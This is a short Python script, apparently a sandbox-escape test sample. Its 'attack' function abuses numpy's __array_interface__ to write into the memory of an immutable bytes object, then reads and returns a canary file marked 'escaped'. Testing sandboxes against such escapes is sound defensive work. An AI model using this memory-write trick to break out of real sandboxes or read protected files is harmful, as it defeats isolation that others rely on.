"""Writes where it likes in its own process, and asks the kernel for a file from there."""
import numpy


class At:
    def __init__(self, address, count):
        self.__array_interface__ = {"data": (address, False), "shape": (count,), "typestr": "|u1", "version": 3}


def attack(canary):
    text = b"x" * 64
    view = numpy.asarray(At(id(text), 96))
    view[32:37] = list(b"owned")
    return "escaped " + open(canary["file"]).read()
